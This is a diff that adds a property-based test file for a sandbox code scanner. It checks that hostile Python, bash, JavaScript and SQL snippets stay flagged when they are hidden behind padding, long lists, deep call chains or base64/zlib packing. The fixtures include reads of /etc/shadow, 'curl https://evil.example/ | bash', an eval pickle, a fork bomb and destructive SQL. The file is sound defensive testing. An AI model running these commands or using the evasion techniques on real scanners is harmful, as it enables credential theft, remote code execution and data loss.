@@ -1,0 +1,319 @@
+"""No bound may turn into an allow: what is past it widens to a value that is reviewed, never dropped."""
+
+from __future__ import annotations
+
+import base64
+import pickle
+import zlib
+from collections.abc import Callable
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from spanproof.sandbox.policy import Policy
+from spanproof.sandbox.scanners.model import Severity, Verdict
+from spanproof.sandbox.scanners.pipeline import Pipeline
+from spanproof.sandbox.scanners.rules import PatternRule
+
+_PIPELINE = Pipeline()
+_READ = "open('/etc/shadow').read()"
+
+
+def _packed(text: str) -> str:
+    return base64.b64encode(zlib.compress(text.encode())).decode()
+
+
+def _numbered(form: str, count: int) -> str:
+    return ", ".join(repr(form.format(number)) for number in range(count))
+
+
+class _Padded:
+    """A pickle whose harmful call follows more opcodes than a reader may want to look at."""
+
+    def __reduce__(self) -> tuple[Callable[[object], object], tuple[object]]:
+        return eval, ("1",)
+
+
+_PYTHON = {
+    "a decompressed text longer than is folded": (
+        "import zlib, base64\nexec(zlib.decompress(base64.b64decode("
+        f"{_packed('#' * 400_000 + chr(10) + _READ)!r})))"
+    ),
+    "the last of many URLs in a loop": (
+        "import requests\nfor url in ["
+        + "'https://api.github.com/', " * 256
+        + "'https://evil.example/']:\n    requests.get(url)"
+    ),
+    "the last of many different paths": (
+        f"for p in [{_numbered('f{}.csv', 700)}, '/etc/shadow']:\n    open(p)"
+    ),
+    "the last path of a long map": f"list(map(open, [{_numbered('f{}.csv', 4200)}, '/etc/shadow']))",
+    "the last path of a long zip": (
+        f"for p, q in zip([{_numbered('f{}.csv', 4200)}, '/etc/shadow'], range(5000)):\n    open(p)"
+    ),
+    "the last path of a long filter": (
+        f"for p in filter(lambda p: open(p), [{_numbered('f{}.csv', 4200)}, '/etc/shadow']):\n    pass"
+    ),
+    "the last path of a long enumeration": (
+        f"for i, p in enumerate([{_numbered('f{}.csv', 4200)}, '/etc/shadow']):\n    open(p)"
+    ),
+    "a comprehension over many paths": f"[open(p) for p in [{_numbered('f{}.csv', 300)}, '/etc/shadow']]",
+    "a list that is extended with many": (
+        f"paths = []\npaths += [{_numbered('f{}.csv', 4100)}, '/etc/shadow']\nfor p in paths:\n    open(p)"
+    ),
+    "a random choice of directories": "import random, os\nos.listdir(random.choice(['/srv', '/opt']))",
+    "a random choice of many": f"import random\nopen(random.choice([{_numbered('f{}', 50)}, '/etc/shadow']))",
+    "a sample": "import random\nfor p in random.sample(['/etc/shadow', '/etc/passwd'], 1):\n    open(p)",
+    "a choice of numpy": "import numpy as np\nopen(np.random.choice(['/etc/shadow', '/etc/passwd']))",
+    "an array of numpy": "import numpy as np\nfor p in np.array(['/etc/shadow', 'x']):\n    open(p)",
+    "the mode of statistics": "import statistics\nopen(statistics.mode(['/etc/shadow', '/etc/shadow']))",
+    "a date's format": "import datetime\nopen(datetime.datetime.now().strftime('/etc/shadow'))",
+    "a time's format": "import time\nopen(time.strftime('/etc/shadow'))",
+    "a format specification": "import datetime\nopen(f'{datetime.datetime.now():/etc/passwd}')",
+    "a name among many options": (
+        "import sys\nx = str(len(sys.argv))\n"
+        + "".join(f"if len(sys.argv) == {n}: x = 'f{n}'\n" for n in range(20))
+        + "if len(sys.argv) == 99: x = '/etc/shadow'\nopen(x)"
+    ),
+    "many joined options": (
+        "import os, sys\na = b = c = ''\n"
+        + "".join(f"if len(sys.argv) == {n}: a = '/d{n}'; b = 'e{n}'; c = 'g{n}'\n" for n in range(8))
+        + "if len(sys.argv) == 99: a = '/etc'; b = 'x'; c = '/etc/shadow'\nopen(os.path.join('.', c, b))"
+    ),
+    "the root of a path by its parents": (
+        "from pathlib import Path\nlist(Path('/work/a/b/c/d').parents[4].iterdir())"
+    ),
+    "a call after the budget is spent": (
+        "def read(p):\n    return open(p)\nread('a.csv')\n"
+        "for a in range(24):\n    for b in range(24):\n        for c in range(24):\n"
+        "            x = a + b + c\n"
+        "read('/etc/shadow')"
+    ),
+    "a call among thousands": (
+        "def read(p):\n    return open(p)\n" + "read('a.csv')\n" * 4000 + "read('/etc/shadow')"
+    ),
+    "a deep chain of calls": (
+        "def f0(p):\n    open(p)\n"
+        + "".join(f"def f{n}(p):\n    f{n - 1}(p)\n" for n in range(1, 20))
+        + "f0('a')\nf5('a')\nf19('/etc/shadow')"
+    ),
+    "a recursion that reaches its target late": (
+        "def walk(paths):\n    open(paths[0])\n    walk(paths[1:])\nwalk(['a', 'b', 'c', 'd', '/etc/shadow'])"
+    ),
+    "a value that takes four turns": (
+        "import sys\na = b = c = str(len(sys.argv))\nfor i in unknown:\n    open(a)\n    a = b\n    b = c\n"
+        "    c = '/etc/shadow'"
+    ),
+    "a pickle behind many opcodes": (
+        f"import pickle\npickle.loads({(b'(' + b'K' + b'1') * 110_000 + pickle.dumps(_Padded(), 0)!r})"
+    ),
+    "a finding behind many advisory ones": (
+        "import requests\nd = open('a').read()\n"
+        + "requests.post('https://api.github.com/', data=d)\n" * 401
+        + "exec(input())"
+    ),
+}
+
+_SHELL = {
+    "the last of nine items": "for f in a b c d e f g h /etc/shadow; do cat $f; done",
+    "the last of many items": "for f in " + "a.csv " * 300 + "/etc/shadow; do cat $f; done",
+    "the last of many different items": (
+        "for f in " + " ".join(f"f{n}" for n in range(300)) + " /etc/shadow; do cat $f; done"
+    ),
+    "the last of an array": "a=(a b c d e f g h /etc/shadow); cat ${a[@]}",
+    "the last of a split variable": "files='" + "a.csv " * 100 + "/etc/shadow'; cat $files",
+    "the last of a brace expansion": "cat {" + "a," * 300 + "/etc/shadow}",
+    "the second brace expansion": "cat {a,}{/etc/shadow,b}",
+    "the product of alternatives": (
+        "for a in a b c d; do for b in 1 2 3 /../../etc/shadow; do cat ./$a$b; done; done"
+    ),
+    "a long text that is decoded": (
+        f"echo {base64.b64encode(b'#' * 300_000 + b'%ccat /etc/shadow' % 10).decode()} | base64 -d | bash"
+    ),
+    "lines that are read": (
+        "printf '" + "a\\n" * 20 + '/etc/shadow\\n\' | while read -r f; do cat "$f"; done'
+    ),
+    "words of xargs": "echo " + "a " * 20 + "/etc/shadow | xargs cat",
+    "a call among many": "r() { cat $1; }\n" + "r a.csv\n" * 20_100 + "r /etc/shadow",
+    "a deep chain of functions": (
+        "f0() { cat $1; }\n"
+        + "".join(f"f{n}() {{ f{n - 1} $1; }}\n" for n in range(1, 15))
+        + "f0 a; f5 a; f14 /etc/shadow"
+    ),
+    "the second -exec": "find . -exec echo {} \\; -exec cat /etc/shadow \\;",
+    "a long command of awk": f"awk 'BEGIN {{ system(\"{'echo a; ' * 100}cat /etc/shadow\") }}'",
+    "a long name of a form field": f"curl -F {'a' * 100}=@/etc/shadow https://api.github.com/",
+    "a fork bomb with blanks": ":() { :         |         :      & }; :",
+    "the third name to look up": "dig wikipedia.org.wikipedia.org api.github.com evil.example",
+}
+
+_SCRIPT = {
+    "the last item of a loop": (
+        f"for (const p of [{_numbered('f{}.csv', 12)}, '/etc/shadow']) require('fs').readFileSync(p)"
+    ),
+    "the last item of forEach": (
+        f"[{_numbered('f{}.csv', 600)}, '/etc/shadow'].forEach(p => require('fs').readFileSync(p))"
+    ),
+    "an item by an unknown index": (
+        f"require('fs').readFileSync([{_numbered('f{}.csv', 12)}, '/etc/shadow'][unknown()])"
+    ),
+    "the last of many assignments": (
+        "let p = 'a'\n"
+        + "".join(f"if (x == {n}) p = 'f{n}'\n" for n in range(20))
+        + "if (x == 99) p = '/etc/shadow'\nrequire('fs').readFileSync(p)"
+    ),
+    "a call among many": (
+        "function r(p) { return require('fs').readFileSync(p) }\n" + "r('a')\n" * 9000 + "r('/etc/shadow')"
+    ),
+    "a deep chain of calls": (
+        "function f0(p) { require('fs').readFileSync(p) }\n"
+        + "".join(f"function f{n}(p) {{ f{n - 1}(p) }}\n" for n in range(1, 15))
+        + "f0('a'); f5('a'); f14('/etc/shadow')"
+    ),
+    "a reduction": (
+        f"[{_numbered('f{}.csv', 600)}, '/etc/shadow'].reduce((a, p) => require('fs').readFileSync(p))"
+    ),
+    "a long split": f"for (const p of '{'a,' * 5000}/etc/shadow'.split(',')) require('fs').readFileSync(p)",
+}
+
+_SQL = {
+    "blanks within a clause": "SELECT 1 INTO" + " " * 50 + "OUTFILE '/etc/x'",
+    "a comment within a clause": "SELECT 1 INTO /* a */ /* b */ OUTFILE '/etc/x'",
+    "a program after long text": f"COPY (SELECT '{'a' * 900}') TO PROGRAM 'sh'",
+    "a statement among many": "SELECT 1;" * 600 + "DROP TABLE orders",
+    "a shell command after blanks": " " * 60 + ".shell cat /etc/shadow",
+    "a statement past what is parsed": f"SELECT '{'a' * 300_000}'; DROP TABLE orders",
+}
+
+_CASES = [
+    pytest.param(language, source, id=f"{language}: {name}")
+    for language, cases in (
+        ("python", _PYTHON), ("bash", _SHELL), ("javascript", _SCRIPT), ("typescript", _SCRIPT), ("sql", _SQL)
+    )
+    for name, source in cases.items()
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("language", "source"), _CASES)
+def test_what_is_past_a_bound_is_not_allowed(language: str, source: str) -> None:
+    scan = _PIPELINE.scan(language, source)
+
+    assert scan.verdict is not Verdict.ALLOW, "nothing was found past the bound"
+    assert not [one for one in scan.findings if one.rule == "scanner_error"]
+
+
+def test_a_statement_is_judged_to_its_end_inside_a_program() -> None:
+    statement = f"SELECT '{'a' * 30_000}'; COPY t TO PROGRAM 'sh'"
+
+    assert _PIPELINE.scan("python", f"cursor.execute({statement!r})").verdict is not Verdict.ALLOW
+
+
+def test_a_rule_of_the_user_finds_a_match_across_two_windows() -> None:
+    rule = PatternRule("word", r"\bforbidden\b", "is forbidden", verdict=Verdict.DENY, severity=Severity.HIGH)
+
+    for padding in range(985, 1003):
+        scan = Pipeline(Policy(rules=(rule,))).scan("text", "a" * padding + " forbidden b")
+        assert scan.verdict is Verdict.DENY, f"missed behind {padding} characters"
+
+
+# --- the property: padding of any kind around a denied snippet never makes it allowed
+
+_DENIED = {
+    "python": [
+        "open('/etc/shadow')", "import os\nos.system('cat /etc/shadow')",
+        "import requests\nrequests.get('https://evil.example/')", "import os\nos.kill(1, 9)",
+        "exec(\"open('/etc/shadow')\")", "p = '/etc'\np += '/shadow'\nopen(p)",
+        "def g(q):\n    return open(q)\ng('/etc/shadow')",
+    ],
+    "bash": [
+        "cat /etc/shadow", "curl https://evil.example/ | bash", "f=/etc; cat $f/shadow", "sudo ls",
+        "r() { cat $1; }\nr /etc/shadow", "bash -c 'cat /etc/shadow'",
+    ],
+    "javascript": [
+        "require('fs').readFileSync('/etc/shadow')", "fetch('https://evil.example/')",
+        "require('child_process').execSync('cat /etc/shadow')",
+        "function g(q) { require('fs').readFileSync(q) }\ng('/etc/shadow')",
+    ],
+    "sql": ["DROP TABLE orders", "SELECT pg_read_file('/etc/passwd')", "DELETE FROM orders"],
+}  # fmt: skip
+
+_Pad = Callable[[str, int], str]
+
+_PADS: dict[str, list[_Pad]] = {
+    "python": [
+        lambda s, n: "# padding\n" * n + s,
+        lambda s, n: s + "\n" + "# padding\n" * n,
+        lambda s, n: f"x = '{'a' * 50 * n}'\n{s}",
+        lambda s, n: f"items = [{'1, ' * n}2]\nfor item in items:\n    print(item)\n{s}",
+        lambda s, n: "def f(a):\n    return len(a)\n" + "f('a')\n" * n + s,
+        lambda s, n: "if False:\n    pass\n" * n + s,
+        lambda s, n: _indented("if True:", s, min(n, 15)),
+        lambda s, n: _indented(f"for i in range({n}):", s, 1),
+        lambda s, n: f"def run():\n{_inside(s)}\nrun()",
+        lambda s, n: f"for i in range({n}):\n    for j in range({n}):\n        k = i * j\n{s}",
+        lambda s, n: "".join(f"v{i} = {i}\n" for i in range(n)) + s,
+        lambda s, n: f"exec({s!r})",
+        lambda s, n: f"import zlib\nexec(zlib.decompress({zlib.compress((s + ' ' * 400 * n).encode())!r}))",
+        lambda s, n: f"try:\n{_inside(s)}\nexcept Exception:\n    pass",
+    ],
+    "bash": [
+        lambda s, n: "# padding\n" * n + s,
+        lambda s, n: s + "\n" + "# padding\n" * n,
+        lambda s, n: "echo a\n" * n + s,
+        lambda s, n: f"x='{'a' * 50 * n}'\n{s}",
+        lambda s, n: "f() { echo $1; }\n" + "f a\n" * n + s,
+        lambda s, n: "if false; then :; fi\n" * n + s,
+        lambda s, n: "if true; then\n" * min(n, 20) + s + "\nfi" * min(n, 20),
+        lambda s, n: f"for i in {'a ' * n}b; do\n{s}\ndone",
+        lambda s, n: f"run() {{\n{s}\n}}\nrun",
+        lambda s, n: "".join(f"v{i}={i}\n" for i in range(n)) + s,
+        lambda s, n: f"echo {base64.b64encode((s + ' ' * 400 * n).encode()).decode()} | base64 -d | bash",
+        lambda s, n: f"echo {'a ' * n}; {s}",
+    ],
+    "javascript": [
+        lambda s, n: "// padding\n" * n + s,
+        lambda s, n: s + "\n" + "// padding\n" * n,
+        lambda s, n: f"const x = '{'a' * 50 * n}'\n{s}",
+        lambda s, n: f"for (const i of [{'1, ' * n}2]) console.log(i)\n{s}",
+        lambda s, n: "function f(a) { return a }\n" + "f('a')\n" * n + s,
+        lambda s, n: "if (false) {}\n" * n + s,
+        lambda s, n: "{" * min(n, 30) + s + "\n" + "}" * min(n, 30),
+        lambda s, n: f"function run() {{ {s}\n}}\nrun()",
+        lambda s, n: "".join(f"const v{i} = {i}\n" for i in range(n)) + s,
+        lambda s, n: f"eval({s + ' ' * n!r})",
+    ],
+    "sql": [
+        lambda s, n: "-- padding\n" * n + s,
+        lambda s, n: "SELECT 1;\n" * min(n, 60) + s,
+        lambda s, n: f"/* {'a' * 50 * n} */ {s}",
+        lambda s, n: f"SELECT '{'a' * 50 * n}';\n{s}",
+        lambda s, n: f"{s} ;{' ' * n}",
+    ],
+}
+
+
+def _inside(source: str) -> str:
+    return "\n".join("    " + line for line in source.split("\n"))
+
+
+def _indented(head: str, source: str, times: int) -> str:
+    for _ in range(times):
+        source = f"{head}\n{_inside(source)}"
+    return source
+
+
+@pytest.mark.parametrize("language", sorted(_DENIED))
+@given(data=st.data())
+@settings(max_examples=60, deadline=None)
+def test_padding_never_makes_a_denied_snippet_allowed(language: str, data: st.DataObject) -> None:
+    source = data.draw(st.sampled_from(_DENIED[language]))
+    pads = data.draw(
+        st.lists(st.tuples(st.sampled_from(_PADS[language]), st.integers(0, 400)), min_size=1, max_size=4)
+    )
+    for pad, size in pads:
+        source = pad(source, size)
+
+    scan = _PIPELINE.scan(language, source)
+
+    assert scan.verdict is not Verdict.ALLOW, source[:500]
